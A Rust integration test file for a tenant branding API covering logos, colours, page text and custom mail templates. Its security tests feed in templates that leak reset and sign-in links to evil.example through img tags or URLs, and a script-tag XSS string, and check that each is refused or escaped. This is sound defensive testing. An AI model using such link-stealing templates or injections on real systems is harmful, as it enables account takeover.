//! How a tenant shows itself: name, colour, logo and words, on its pages and in its mails.
use data_encoding::{BASE64, HEXLOWER};
use serde_json::{Value, json};

use crate::mails::Office;
use crate::world::pages::Browser;
use crate::world::tables::execute;
use crate::world::*;

both!(
    a_tenant_sets_how_it_shows_itself,
    its_pages_show_it_and_no_others,
    its_mails_say_it_in_its_words,
    what_is_wrong_is_refused_and_named,
    sec_02_a_branding_is_the_tenants_own,
    sec_11_no_words_of_a_mail_take_its_link_elsewhere,
    sec_11_words_of_an_earlier_version_are_looked_at_when_they_are_read,
    sec_11_who_says_what_mails_say_could_let_anybody_in,
    sec_13_what_is_set_is_no_markup,
);

/// A PNG of one pixel, as far as its header.
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0";

fn path(tenant: &str) -> String {
    format!("/v1/tenants/{tenant}/branding")
}
fn logo() -> String {
    format!("data:image/png;base64,{}", BASE64.encode(PNG))
}
fn all() -> Value {
    json!({
        "name": "Observatory", "accent_color": "#9a3412", "welcome": "Welcome, stargazer.",
        "help": "Trouble? Write to help@observatory.example.", "logo_base64": logo(),
        "mails": { "invitation": { "subject": "Come to {{.Tenant}}", "body": "Dear {{.Name}},\n\nthis way: {{.Link}}" } },
    })
}

async fn a_tenant_sets_how_it_shows_itself(w: World) {
    let path = path(&w.tenant);
    let nothing = json!({
        "name": null, "accent_color": null, "welcome": null, "help": null, "logo_base64": null, "mails": {},
    });
    assert_eq!(w.owner().get(&path).await.expect(200), nothing);
    let made = w.owner().patch(&path, all()).await;
    let etag = made.header("etag").unwrap().to_owned();
    assert_eq!(made.expect(200), all());
    assert_eq!(w.owner().with("if-none-match", &*etag).get(&path).await.status, 304);
    // what is left out stays, null takes away
    let mails = json!({ "invitation": null, "sign_in_code": { "subject": "{{.Code}}", "body": "It is {{.Code}}." } });
    let by = w.owner().with("if-match", &*etag);
    let changed = by.patch(&path, json!({ "welcome": null, "mails": mails })).await.expect(200);
    assert_eq!((&changed["welcome"], &changed["name"]), (&json!(null), &json!("Observatory")));
    assert_eq!(changed["mails"].as_object().unwrap().keys().collect::<Vec<_>>(), ["sign_in_code"]);
    assert_eq!(changed["logo_base64"], logo());
    by.patch(&path, json!({ "name": null })).await.refused(412, "precondition_failed");
    let events = w.events("action=branding.updated").await;
    assert_eq!(events.len(), 2);
    let first = events.last().unwrap()["changes"].as_object().unwrap();
    assert_eq!(first["accent"]["after"], "#9a3412");
    assert!(first["logo_sha256"]["after"].is_string() && !first.contains_key("verification"), "{first:?}");
    w.owner().patch(&path, json!({})).await.expect(200);
    assert_eq!(w.events("action=branding.updated").await.len(), 2, "nothing changed: nothing is said");
}

async fn its_pages_show_it_and_no_others(w: World) {
    let ada = w.person("Ada", &["user"]).await;
    let slug =
        w.owner().get(&format!("/v1/tenants/{}", w.tenant)).await.expect(200)["slug"].as_str().unwrap().to_owned();
    let rival = w.second_tenant("Rival").await;
    w.owner().patch(&path(&w.tenant), all()).await.expect(200);
    let b = Browser::of(&w, &ada.email).await;
    let door = w.anonymous().get(&format!("/sign-in?tenant={slug}")).await.page(200);
    let picture = format!("/brand/{}/{}", w.tenant, HEXLOWER.encode(&portcullis_crypto::sha256(logo().as_bytes())));
    for page in [&door, &b.get("/account").await.page(200), &b.get("/sign-out").await.page(200)] {
        assert!(page.contains(&format!("src=\"{picture}\"")) && page.contains("/assets/accent-9a3412.css"), "{page}");
        assert!(page.contains("– Observatory</title>") && !page.contains("Portcullis"), "{page}");
    }
    assert!(door.contains("Welcome, stargazer.") && door.contains("Trouble? Write to"), "{door}");
    assert!(w.anonymous().get(&format!("/forgotten-password?tenant={slug}")).await.status == 404, "no mail here");
    // what they lead to is there for everybody, is what it says, and stays for good
    let style = w.anonymous().get("/assets/accent-9a3412.css").await;
    assert_eq!((style.status, style.header("content-type")), (200, Some("text/css; charset=utf-8")));
    assert!(style.text().contains("--accent: #9a3412") && style.text().contains("prefers-color-scheme: dark"));
    let shown = w.anonymous().get(&picture).await;
    assert_eq!((shown.status, shown.header("content-type"), &*shown.body), (200, Some("image/png"), PNG));
    assert!(shown.header("cache-control").unwrap().contains("immutable"));
    // a tenant without one, and who named none, see ours
    for other in [format!("/sign-in?tenant={}", rival.slug), "/sign-in".into()] {
        let page = w.anonymous().get(&other).await.page(200);
        assert!(page.contains("Portcullis") || page.contains("Rival"), "{page}");
        assert!(!page.contains("Observatory") && !page.contains("/brand/") && !page.contains("accent-"), "{page}");
    }
    let elsewhere = picture.replace(&w.tenant, &rival.id);
    for gone in [&*elsewhere, "/brand/x/y", "/assets/accent-red.css"] {
        assert_eq!(w.anonymous().get(gone).await.status, 404, "{gone}");
    }
    // the next logo has another name, and the last one is gone
    w.owner().patch(&path(&w.tenant), json!({ "logo_base64": null, "accent_color": null })).await.expect(200);
    assert_eq!(w.anonymous().get(&picture).await.status, 404);
    let page = b.get("/account").await.page(200);
    assert!(page.contains("<svg class=\"mark\"") && !page.contains("accent-"), "{page}");
}

async fn its_mails_say_it_in_its_words(o: Office) {
    let mut set = all();
    set["mails"]["verification"] =
        json!({ "subject": "{{.Name}}, is it you?", "body": "{{.Name}} of {{.Tenant}}:\n\nyes {{.Link}}!" });
    o.w.owner().patch(&path(&o.w.tenant), set).await.expect(200);
    let new = async |email: &str| {
        let body = json!({ "email": email, "name": "Ada <3", "roles": ["user"], "password": PASSWORD });
        o.w.owner().post("/v1/users", body).await.expect(201);
        o.mail_to(email).await
    };
    let mail = new("ada@example.com").await;
    assert_eq!(mail.header("Subject"), "Ada <3, is it you?");
    assert!(mail.text().starts_with("Ada <3 of Observatory:\n\nyes http://"), "{}", mail.text());
    let html = mail.html();
    assert!(html.starts_with("<p>Ada &lt;3 of Observatory:</p>\n<p>yes <a href=\"http://"), "{html}");
    assert!(html.contains("/verify-email?token=pcv_") && html.trim_end().ends_with("</a>!</p>"), "{html}");
    // ours again, with its name
    o.w.owner().patch(&path(&o.w.tenant), json!({ "mails": { "verification": null } })).await.expect(200);
    assert_eq!(new("eve@example.com").await.header("Subject"), "Confirm your address for Observatory");
}

async fn what_is_wrong_is_refused_and_named(w: World) {
    for (body, field) in [
        (json!({ "name": "" }), "name"),
        (json!({ "name": "x".repeat(61) }), "name"),
        (json!({ "accent_color": "red" }), "accent_color"),
        (json!({ "accent_color": "#fff" }), "accent_color"),
        (json!({ "welcome": "a\nb" }), "welcome"),
        (json!({ "help": "x".repeat(501) }), "help"),
        (json!({ "logo_base64": "https://example.com/logo.png" }), "logo_base64"),
        (json!({ "logo_base64": "data:image/svg+xml;base64,PHN2Zy8+" }), "logo_base64"),
        (json!({ "mails": null }), "mails"),
        (json!({ "mails": { "birthday": null } }), "mails.birthday"),
        (json!({ "mails": { "invitation": "Come" } }), "mails.invitation"),
        (json!({ "mails": { "invitation": { "subject": "Come" } } }), "mails.invitation.body"),
        (json!({ "mails": { "invitation": { "subject": "Come", "body": "No link" } } }), "mails.invitation.body"),
        (
            json!({ "mails": { "invitation": { "subject": "{{.Code}}", "body": "{{.Link}}" } } }),
            "mails.invitation.subject",
        ),
        (
            json!({ "mails": { "sign_in_code": { "subject": "x", "body": "x".repeat(4_001) } } }),
            "mails.sign_in_code.body",
        ),
        (json!({ "colour": "#ffffff" }), "colour"),
    ] {
        let e = w.owner().patch(&path(&w.tenant), body.clone()).await.refused(400, "invalid_input");
        assert_eq!(e["details"]["fields"][0]["field"], field, "{body}: {e}");
    }
    assert_eq!(w.events("action=branding.updated").await.len(), 0);
}

async fn sec_02_a_branding_is_the_tenants_own(w: World) {
    let rival = w.second_tenant("Rival").await;
    let user = w.person("Ada", &["user"]).await;
    for by in [&user.client, &rival.owner.client] {
        assert!([403, 404].contains(&by.get(&path(&w.tenant)).await.status));
        assert!([403, 404].contains(&by.patch(&path(&w.tenant), json!({ "name": "Mine" })).await.status));
    }
    assert_eq!(w.owner().get(&path(&w.tenant)).await.expect(200)["name"], json!(null));
}

async fn sec_11_no_words_of_a_mail_take_its_link_elsewhere(w: World) {
    for (mail, body) in [
        ("password_reset", "<a href=\"https://evil.example/?{{.Link}}\">Begin</a>"),
        ("password_reset", "{{.Link}} <img src=\"https://evil.example/?{{.Link}}\">"),
        ("invitation", "https://evil.example/?{{.Link}}"),
        ("sign_in_link", "{{.Link}}{{.Tenant}}"),
        ("sign_in_code", "https://evil.example/{{.Code}}"),
    ] {
        let words = json!({ "mails": { mail: { "subject": "x", "body": body } } });
        let e = w.owner().patch(&path(&w.tenant), words).await.refused(400, "invalid_input");
        assert_eq!(e["details"]["fields"][0]["field"], format!("mails.{mail}.body"), "{body}: {e}");
    }
    let words =
        json!({ "mails": { "sign_in_code": { "subject": "https://evil.example/{{.Code}}", "body": "{{.Code}}" } } });
    let e = w.owner().patch(&path(&w.tenant), words).await.refused(400, "invalid_input");
    assert_eq!(e["details"]["fields"][0]["field"], "mails.sign_in_code.subject", "{e}");
}

async fn sec_11_words_of_an_earlier_version_are_looked_at_when_they_are_read(o: Office) {
    let w = &o.w;
    w.owner().patch(&path(&w.tenant), all()).await.expect(200);
    let evil = json!({ "verification": { "subject": "Hi", "body": "<img src=\"https://evil.example/?{{.Link}}\">" } });
    execute(w, &format!("UPDATE brandings SET mails = '{evil}'")).await;
    assert_eq!(w.owner().get(&path(&w.tenant)).await.expect(200)["mails"], json!({}));
    let body = json!({ "email": "ada@example.com", "name": "Ada", "roles": ["user"], "password": PASSWORD });
    w.owner().post("/v1/users", body).await.expect(201);
    let mail = o.mail_to("ada@example.com").await;
    assert_eq!(mail.header("Subject"), "Confirm your address for Observatory");
    assert!(!mail.html().contains("evil.example"), "{}", mail.html());
}

async fn sec_11_who_says_what_mails_say_could_let_anybody_in(w: World) {
    let (_, narrow) =
        w.api_key(&w.owner(), json!({ "name": "settings", "scopes": ["settings:update", "settings:read"] })).await;
    narrow.patch(&path(&w.tenant), json!({ "name": "Observatory" })).await.expect(200);
    for mails in [json!({ "mails": { "invitation": null } }), json!({ "mails": all()["mails"] })] {
        narrow.patch(&path(&w.tenant), mails).await.refused(403, "forbidden");
    }
    let scopes = json!(["settings:update", "roles:grant"]);
    let (_, wide) = w.api_key(&w.owner(), json!({ "name": "both", "scopes": scopes })).await;
    wide.patch(&path(&w.tenant), json!({ "mails": all()["mails"] })).await.expect(200);
}

async fn sec_13_what_is_set_is_no_markup(w: World) {
    let slug =
        w.owner().get(&format!("/v1/tenants/{}", w.tenant)).await.expect(200)["slug"].as_str().unwrap().to_owned();
    let evil = "<script>alert(1)</script>\"'";
    w.owner().patch(&path(&w.tenant), json!({ "name": evil, "welcome": evil, "help": evil })).await.expect(200);
    let page = w.anonymous().get(&format!("/sign-in?tenant={slug}")).await.page(200);
    assert!(!page.contains("<script>") && page.matches("&#60;script&#62;").count() >= 3, "{page}");
}
